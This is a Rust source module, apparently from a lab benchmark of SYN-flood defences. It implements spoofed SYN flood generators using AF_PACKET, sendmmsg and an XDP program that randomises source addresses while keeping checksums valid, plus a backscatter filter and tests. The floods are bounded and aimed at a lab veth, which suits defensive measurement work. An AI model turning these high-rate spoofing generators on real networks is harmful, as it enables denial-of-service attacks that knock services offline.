//! Spoofed SYN flood generators, all in this crate and all bounded in time
//! and packets. The benchmark measures each and floods with the fastest:
//!
//! - `packet-send`: the lab's AF_PACKET sender, one send(2) per frame
//!   (`traffic::flood`).
//! - `packet-mmsg`: AF_PACKET with sendmmsg(2), 64 frames per call, and
//!   PACKET_QDISC_BYPASS (no qdisc, straight to the driver).
//! - `xdp-live`: BPF_PROG_TEST_RUN with live frames. A small XDP program
//!   writes a SYN template over each frame, with a random source address,
//!   port and sequence number, and returns XDP_TX; the kernel sends each
//!   frame out of the outside veth, with no socket and no sk_buff on the
//!   sending side, and the target receives it as a NIC would hand it over.
use std::{
    io,
    net::{IpAddr, Ipv4Addr},
    os::fd::{AsFd, AsRawFd, OwnedFd},
    sync::atomic::{AtomicBool, AtomicU64, Ordering},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};

use super::cpu;
use crate::{
    lab,
    netns::Netns,
    packets::{self, Segment},
    rawbpf::{self as bpf, Insn},
    traffic::{self, RawSender},
};

/// A way of sending the flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Generator {
    PacketSend,
    PacketMmsg,
    XdpLive,
}

impl Generator {
    pub const ALL: [Generator; 3] = [
        Generator::PacketSend,
        Generator::PacketMmsg,
        Generator::XdpLive,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Generator::PacketSend => "packet-send",
            Generator::PacketMmsg => "packet-mmsg",
            Generator::XdpLive => "xdp-live",
        }
    }

    pub fn describe(self) -> &'static str {
        match self {
            Generator::PacketSend => "AF_PACKET, one send(2) per frame",
            Generator::PacketMmsg => "AF_PACKET, sendmmsg(2) x64, PACKET_QDISC_BYPASS",
            Generator::XdpLive => "BPF_PROG_TEST_RUN live frames, XDP_TX, random source per frame",
        }
    }
}

/// When a flood ends: at the deadline, after `max_packets`, or when `stop`
/// is set, whichever comes first.
pub struct Bounds<'a> {
    pub duration: Duration,
    pub max_packets: u64,
    pub stop: &'a AtomicBool,
}

/// What a flood sent.
#[derive(Clone, Copy, Debug)]
pub struct Sent {
    pub packets: u64,
    pub elapsed: Duration,
    /// CPU time the sending threads got: on a shared machine, a generator
    /// that got less than its CPU sent less for that reason.
    pub cpu: Duration,
}

impl Sent {
    pub fn pps(&self) -> f64 {
        self.packets as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// A flood source from `outside` (its veth `iface`) to `dst:dport`, ready
/// to run. Spoofed sources are in 198.19.0.0/16.
pub struct Flood {
    generator: Generator,
    ifindex: u32,
    frames: Vec<Vec<u8>>,
    socket: Option<OwnedFd>,
    sender: Option<RawSender>,
    program: Option<OwnedFd>,
}

/// Distinct frames the AF_PACKET generators cycle through.
const FRAMES: usize = 8192;
/// Frames per sendmmsg(2) call.
const BATCH: usize = 64;
/// Frames per live BPF_PROG_TEST_RUN call. Each call also sleeps ~20 ms
/// in the kernel tearing its page pool down, so calls are long (2^19
/// frames, ~0.1 s here), and two threads take turns; the deadline and the
/// stop flag are checked between calls.
const LIVE_CHUNK: u32 = 1 << 19;
const LIVE_CALLERS: usize = 2;

impl Flood {
    pub fn new(
        generator: Generator,
        outside: &Netns,
        iface: &str,
        dst: Ipv4Addr,
        dport: u16,
    ) -> Result<Flood> {
        let name = iface.to_string();
        let ifindex = outside.run(|| lab::if_index(&name));
        anyhow::ensure!(ifindex != 0, "no interface {iface} in {}", outside.name());
        let mut flood = Flood {
            generator,
            ifindex,
            frames: Vec::new(),
            socket: None,
            sender: None,
            program: None,
        };
        match generator {
            Generator::PacketSend => {
                flood.frames = packets::spoofed_syns(FRAMES, IpAddr::V4(dst), dport, 0x5eed);
                flood.sender = Some(RawSender::open(outside, iface)?);
            }
            Generator::PacketMmsg => {
                flood.frames = packets::spoofed_syns(FRAMES, IpAddr::V4(dst), dport, 0x5eed);
                flood.socket = Some(
                    outside
                        .run(|| bypass_socket(ifindex))
                        .context("opening an AF_PACKET socket with PACKET_QDISC_BYPASS")?,
                );
            }
            Generator::XdpLive => {
                flood.frames = vec![syn_template(dst, dport)];
                flood.program = Some(
                    bpf::load_xdp("bench_synflood", &randomise_and_tx(&flood.frames[0]))
                        .context("loading the live-frame generator program")?,
                );
            }
        }
        Ok(flood)
    }

    /// Sends until the bounds say stop. Call it from a thread in the
    /// outside namespace (live frames take the ingress device from the
    /// calling thread's namespace) and, to measure, pinned to one CPU.
    pub fn run(&self, bounds: &Bounds<'_>) -> Sent {
        let started = Instant::now();
        let deadline = started + bounds.duration;
        let max = bounds.max_packets;
        let done = |sent: u64| {
            sent >= max || bounds.stop.load(Ordering::Relaxed) || Instant::now() >= deadline
        };
        let mut sent = 0u64;
        let cpu_before = cpu::thread_cpu();
        let mut cpu = Duration::ZERO;
        match self.generator {
            Generator::PacketSend => {
                let sender = self.sender.as_ref().expect("opened in new()");
                // traffic::flood checks its own deadline; run it in slices so
                // the stop flag is honoured too.
                while !done(sent) {
                    let slice = (max - sent).min(FRAMES as u64);
                    sent += traffic::flood(sender, &self.frames, Duration::from_millis(50), slice);
                }
            }
            Generator::PacketMmsg => {
                let fd = self.socket.as_ref().expect("opened in new()");
                let mut next = 0;
                while !done(sent) {
                    let batch: Vec<&[u8]> = (0..BATCH)
                        .map(|i| self.frames[(next + i) % self.frames.len()].as_slice())
                        .collect();
                    next = (next + BATCH) % self.frames.len();
                    // A full device queue (ENOBUFS, EAGAIN) is the flood's
                    // own back-pressure: count what went and go on.
                    sent += send_batch(fd, &batch).unwrap_or(0) as u64;
                }
            }
            Generator::XdpLive => {
                // Two callers take turns, so one sends while the other's
                // call sleeps in page-pool teardown. Threads inherit the
                // caller's namespace and CPU.
                let prog = self.program.as_ref().expect("loaded in new()");
                let total = AtomicU64::new(0);
                cpu = thread::scope(|s| {
                    let callers: Vec<_> = (0..LIVE_CALLERS)
                        .map(|_| {
                            s.spawn(|| {
                                let before = cpu::thread_cpu();
                                while !done(total.load(Ordering::Relaxed)) {
                                    let left = max.saturating_sub(total.load(Ordering::Relaxed));
                                    let n = left.min(u64::from(LIVE_CHUNK)) as u32;
                                    if n > 0
                                        && bpf::run_live(
                                            prog.as_fd(),
                                            &self.frames[0],
                                            self.ifindex,
                                            n,
                                        )
                                        .is_ok()
                                    {
                                        total.fetch_add(u64::from(n), Ordering::Relaxed);
                                    }
                                }
                                cpu::thread_cpu() - before
                            })
                        })
                        .collect();
                    callers.into_iter().map(|c| c.join().expect("caller")).sum()
                });
                sent = total.into_inner();
            }
        }
        Sent {
            packets: sent,
            elapsed: started.elapsed(),
            cpu: cpu + (cpu::thread_cpu() - cpu_before),
        }
    }
}

impl Flood {
    /// Sends at `pps` frames a second, `batch` frames per call, until the
    /// bounds say stop: a fixed offered rate, as a rate-limited traffic
    /// generator (trafgen's `--rate`) offers it. Only the AF_PACKET
    /// generators pace; a live-frame call sends hundreds of thousands of
    /// frames at once. The sender busy-waits between calls, so its CPU never
    /// halts, or with `sleep` sleeps until the next call is due, so an idle
    /// CPU may halt between calls; when the calls (and the receive work they
    /// run inline) take longer than the schedule allows, it sends back to
    /// back and the offered rate is what it reached (`Sent`).
    pub fn run_paced(
        &self,
        bounds: &Bounds<'_>,
        pps: u32,
        batch: usize,
        sleep: bool,
    ) -> Result<Sent> {
        anyhow::ensure!(
            pps > 0 && batch > 0,
            "a paced flood needs a rate and a batch"
        );
        let started = Instant::now();
        let deadline = started + bounds.duration;
        let cpu_before = cpu::thread_cpu();
        let mut attempted = 0u64;
        let mut sent = 0u64;
        let mut next = 0;
        let batch_frames = |next: usize, n: usize| -> Vec<&[u8]> {
            (0..n)
                .map(|i| self.frames[(next + i) % self.frames.len()].as_slice())
                .collect()
        };
        loop {
            if attempted >= bounds.max_packets {
                break;
            }
            let now = Instant::now();
            if now >= deadline || bounds.stop.load(Ordering::Relaxed) {
                break;
            }
            let due = (now.duration_since(started).as_secs_f64() * f64::from(pps)) as u64;
            if attempted >= due {
                if sleep {
                    let next_due = Duration::from_secs_f64((attempted + 1) as f64 / f64::from(pps));
                    thread::sleep((started + next_due).saturating_duration_since(now));
                } else {
                    std::hint::spin_loop();
                }
                continue;
            }
            let n = batch.min((bounds.max_packets - attempted) as usize);
            attempted += n as u64;
            match self.generator {
                Generator::PacketSend => {
                    let sender = self.sender.as_ref().expect("opened in new()");
                    for frame in batch_frames(next, n) {
                        sent += u64::from(sender.send(frame).is_ok());
                    }
                }
                Generator::PacketMmsg => {
                    let fd = self.socket.as_ref().expect("opened in new()");
                    sent += send_batch(fd, &batch_frames(next, n)).unwrap_or(0) as u64;
                }
                Generator::XdpLive => anyhow::bail!("the live-frame generator cannot pace"),
            }
            next = (next + n) % self.frames.len();
        }
        Ok(Sent {
            packets: sent,
            elapsed: started.elapsed(),
            cpu: cpu::thread_cpu() - cpu_before,
        })
    }
}

/// A SYN from 198.19.0.0 port 0 with IP id 0xffff and sequence number
/// 0xffffffff. The generator program writes a random `x` into the low half
/// of the source address and `!x` into the IP id and the low half of the
/// sequence number, and a random port `p` into the source port and `!p`
/// into the high half of the sequence number. Each pair sums to 0xffff
/// before and after, so both checksums stay valid without recomputing them
/// (RFC 1071: the sum is all that counts).
pub fn syn_template(dst: Ipv4Addr, dport: u16) -> Vec<u8> {
    let mut frame = Segment::syn(
        IpAddr::V4(Ipv4Addr::new(198, 19, 0, 0)),
        IpAddr::V4(dst),
        0,
        dport,
    )
    .numbers(0xffff_ffff, 0)
    .frame();
    packets::patch_ipv4(&mut frame, |ip| ip[4..6].copy_from_slice(&[0xff, 0xff]));
    frame
}

/// Offsets in an untagged IPv4/TCP frame without IP options.
const IP_ID: i16 = 14 + 4;
const IP_SRC_LOW: i16 = 14 + 14;
const TCP_SPORT: i16 = 34;
const TCP_SEQ_HIGH: i16 = 34 + 4;
const TCP_SEQ_LOW: i16 = 34 + 6;
/// bpf_get_prandom_u32.
const HELPER_PRANDOM_U32: i32 = 7;
/// Offsets in an Ethernet frame.
const ETHERTYPE: i16 = 12;
const IP_DST: i16 = 14 + 16;
/// ETH_P_IP and 198.19 as the little-endian u16 loads read them.
const ETH_P_IP_LOADED: i32 = 0x0008;
const SPOOFED_16_LOADED: i32 = 0x13c6;

/// For the outside veth: drop IPv4 frames to 198.19.0.0/16 (SYN-ACKs and
/// RSTs the target sends to spoofed sources), pass everything else (the
/// real clients' traffic). Backscatter then costs the attacker's side a
/// few instructions instead of a trip through its IP stack.
pub fn drop_backscatter() -> Vec<Insn> {
    let mut prog = shorter_than(34, 6).to_vec(); // Ethernet + IPv4: pass
    prog.extend([
        Insn::load_u16(5, 2, ETHERTYPE),
        Insn::jne_imm(5, ETH_P_IP_LOADED, 4), // not IPv4: pass
        Insn::load_u16(5, 2, IP_DST),
        Insn::jne_imm(5, SPOOFED_16_LOADED, 2), // not to 198.19/16: pass
        Insn::mov_imm(0, bpf::XDP_DROP as i32),
        Insn::exit(),
        Insn::mov_imm(0, bpf::XDP_PASS as i32),
        Insn::exit(),
    ]);
    prog
}

/// A program's first instructions: r2 = data, r3 = data_end, and a jump
/// over the next `skip` instructions when the frame is shorter than
/// `len` bytes (r4 is left at data + len).
fn shorter_than(len: i32, skip: i16) -> [Insn; 5] {
    [
        Insn::load_u32(2, 1, 0), // data
        Insn::load_u32(3, 1, 4), // data_end
        Insn::mov(4, 2),
        Insn::add_imm(4, len),
        Insn::jgt(4, 3, skip),
    ]
}

/// The flood lab's floor: loads the frame's EtherType, then drops it. The
/// load is the frame's first cache line, written on the generator's CPU
/// and missed on the target's; any program that looks at a frame pays it.
pub fn read_and_drop() -> Vec<Insn> {
    let mut prog = shorter_than(14, 1).to_vec(); // Ethernet: drop unread
    prog.extend([
        Insn::load_u16(5, 2, ETHERTYPE),
        Insn::mov_imm(0, bpf::XDP_DROP as i32),
        Insn::exit(),
    ]);
    prog
}

/// The generator program (see [`syn_template`]). It first writes the
/// whole template over the frame: live frames come from a page pool whose
/// pages keep what was last written in them, and a page may come back
/// holding the SYN-ACK a defence wrote over the SYN in place. Then r0 =
/// random, the rewrite, and XDP_TX; frames shorter than the template are
/// dropped.
pub fn randomise_and_tx(template: &[u8]) -> Vec<Insn> {
    assert!(
        template.len() >= (TCP_SEQ_LOW + 2) as usize && template.len() < 512,
        "a SYN template of {} bytes",
        template.len()
    );
    let mut prog = vec![
        Insn::mov(6, 1),
        Insn::call(HELPER_PRANDOM_U32),
        Insn::load_u32(2, 6, 0), // data
        Insn::load_u32(3, 6, 4), // data_end
        Insn::mov(4, 2),
        Insn::add_imm(4, template.len() as i32),
    ];
    let bounds_check = prog.len();
    prog.push(Insn::exit()); // the jump to the XDP_DROP below, once known
    let mut at = 0;
    for chunk in template.chunks(4) {
        let off = at as i16;
        match *chunk {
            [a, b, c, d] => prog.push(Insn::store_imm_u32(
                2,
                off,
                i32::from_le_bytes([a, b, c, d]),
            )),
            [a, b, c] => {
                prog.push(Insn::store_imm_u16(
                    2,
                    off,
                    i32::from(u16::from_le_bytes([a, b])),
                ));
                prog.push(Insn::store_imm_u8(2, off + 2, i32::from(c)));
            }
            [a, b] => prog.push(Insn::store_imm_u16(
                2,
                off,
                i32::from(u16::from_le_bytes([a, b])),
            )),
            [a] => prog.push(Insn::store_imm_u8(2, off, i32::from(a))),
            _ => unreachable!("chunks of at most 4"),
        }
        at += chunk.len();
    }
    prog.extend([
        // x = random & 0xffff: source address low half; !x: IP id, seq low
        Insn::mov(5, 0),
        Insn::and_imm(5, 0xffff),
        Insn::be16(5),
        Insn::store_u16(2, IP_SRC_LOW, 5),
        Insn::xor_imm(5, 0xffff),
        Insn::store_u16(2, IP_ID, 5),
        Insn::store_u16(2, TCP_SEQ_LOW, 5),
        // p = (random >> 16) | 1024: source port; !p: seq high
        Insn::mov(7, 0),
        Insn::rsh_imm(7, 16),
        Insn::or_imm(7, 0x400),
        Insn::be16(7),
        Insn::store_u16(2, TCP_SPORT, 7),
        Insn::xor_imm(7, 0xffff),
        Insn::store_u16(2, TCP_SEQ_HIGH, 7),
        Insn::mov_imm(0, bpf::XDP_TX as i32),
        Insn::exit(),
    ]);
    let to_drop = (prog.len() - bounds_check - 1) as i16;
    prog[bounds_check] = Insn::jgt(4, 3, to_drop);
    prog.extend([Insn::mov_imm(0, bpf::XDP_DROP as i32), Insn::exit()]);
    prog
}

/// An AF_PACKET socket bound to `ifindex` that hands frames straight to
/// the driver, with a send buffer large enough for whole batches
/// (SO_SNDBUFFORCE: no global sysctl to raise and restore).
fn bypass_socket(ifindex: u32) -> io::Result<OwnedFd> {
    let fd = crate::traffic::packet_socket(ifindex)?;
    setsockopt(&fd, libc::SOL_PACKET, libc::PACKET_QDISC_BYPASS, 1)?;
    setsockopt(&fd, libc::SOL_SOCKET, libc::SO_SNDBUFFORCE, 16 << 20)?;
    Ok(fd)
}

fn setsockopt(fd: &OwnedFd, level: i32, name: i32, value: i32) -> io::Result<()> {
    // SAFETY: an int option on our own socket.
    let rc = unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            level,
            name,
            (&value as *const i32).cast(),
            std::mem::size_of::<i32>() as u32,
        )
    };
    if rc != 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(())
}

/// One sendmmsg(2) of `frames`; returns how many went.
fn send_batch(fd: &OwnedFd, frames: &[&[u8]]) -> io::Result<usize> {
    let mut iovs: Vec<libc::iovec> = frames
        .iter()
        .map(|f| libc::iovec {
            iov_base: f.as_ptr() as *mut libc::c_void,
            iov_len: f.len(),
        })
        .collect();
    let mut msgs: Vec<libc::mmsghdr> = iovs
        .iter_mut()
        .map(|iov| {
            // SAFETY: a zeroed msghdr is valid; we point it at one iovec.
            let mut hdr: libc::msghdr = unsafe { std::mem::zeroed() };
            hdr.msg_iov = iov;
            hdr.msg_iovlen = 1;
            libc::mmsghdr {
                msg_hdr: hdr,
                msg_len: 0,
            }
        })
        .collect();
    // SAFETY: msgs and the iovecs and frames they point to outlive the call.
    let n = unsafe {
        libc::sendmmsg(
            fd.as_raw_fd(),
            msgs.as_mut_ptr(),
            msgs.len() as u32,
            libc::MSG_DONTWAIT,
        )
    };
    if n < 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(n as usize)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::require_root;

    fn parse(frame: &[u8]) -> (etherparse::Ipv4Header, etherparse::TcpHeader, Vec<u8>) {
        let sliced = etherparse::SlicedPacket::from_ethernet(frame).expect("parses");
        let Some(etherparse::NetSlice::Ipv4(ip)) = &sliced.net else {
            panic!("not IPv4")
        };
        let Some(etherparse::TransportSlice::Tcp(tcp)) = &sliced.transport else {
            panic!("not TCP")
        };
        (
            ip.header().to_header(),
            tcp.to_header(),
            tcp.payload().to_vec(),
        )
    }

    #[test]
    fn the_generator_program_writes_random_syns_with_valid_checksums() {
        require_root();
        let template = syn_template(lab::TARGET_V4, 80);
        let prog = bpf::load_xdp("test_synflood", &randomise_and_tx(&template)).unwrap();
        let mut sources = std::collections::HashSet::new();
        for i in 0..64u8 {
            // A page that last held something else: the answer a defence
            // wrote over a SYN, here just noise.
            let junk = vec![i.wrapping_mul(37) | 1; template.len()];
            let mut out = vec![0u8; template.len() + 64];
            let run = bpf::test_run(prog.as_fd(), &junk, Some(&mut out), 1).unwrap();
            assert_eq!(run.action, bpf::XDP_TX);
            out.truncate(run.data_size_out as usize);
            let (ip, tcp, payload) = parse(&out);
            assert_eq!(
                ip.header_checksum,
                ip.calc_header_checksum(),
                "IPv4 checksum"
            );
            assert_eq!(
                tcp.checksum,
                tcp.calc_checksum_ipv4(&ip, &payload).unwrap(),
                "TCP checksum"
            );
            assert_eq!(ip.source[..2], [198, 19], "spoofed from 198.19/16");
            assert_eq!(ip.destination, lab::TARGET_V4.octets());
            assert!(tcp.syn && !tcp.ack && tcp.source_port >= 1024 && tcp.destination_port == 80);
            sources.insert((ip.source, tcp.source_port));
        }
        assert!(
            sources.len() > 60,
            "random sources: {} distinct",
            sources.len()
        );
        // Too short to hold the template: dropped, untouched.
        let short = vec![0u8; 40];
        let run = bpf::test_run(prog.as_fd(), &short, None, 1).unwrap();
        assert_eq!(run.action, bpf::XDP_DROP);
    }

    #[test]
    fn backscatter_is_dropped_and_real_traffic_passes() {
        require_root();
        let prog = bpf::load_xdp("test_backscat", &drop_backscatter()).unwrap();
        let action = |frame: &[u8]| bpf::test_run(prog.as_fd(), frame, None, 1).unwrap().action;
        let to = |dst: Ipv4Addr| {
            Segment::syn(IpAddr::V4(lab::TARGET_V4), IpAddr::V4(dst), 80, 4000)
                .flags(packets::Flags::SYN_ACK)
                .frame()
        };
        assert_eq!(action(&to(Ipv4Addr::new(198, 19, 7, 9))), bpf::XDP_DROP);
        assert_eq!(action(&to(lab::OUTSIDE_V4)), bpf::XDP_PASS);
        assert_eq!(
            action(&packets::arp_request(lab::TARGET_V4, lab::OUTSIDE_V4)),
            bpf::XDP_PASS
        );
        let v6 = Segment::syn(
            IpAddr::V6(lab::TARGET_V6),
            IpAddr::V6(lab::OUTSIDE_V6),
            80,
            4000,
        )
        .frame();
        assert_eq!(action(&v6), bpf::XDP_PASS);
        assert_eq!(action(&[0u8; 20]), bpf::XDP_PASS);
    }
}
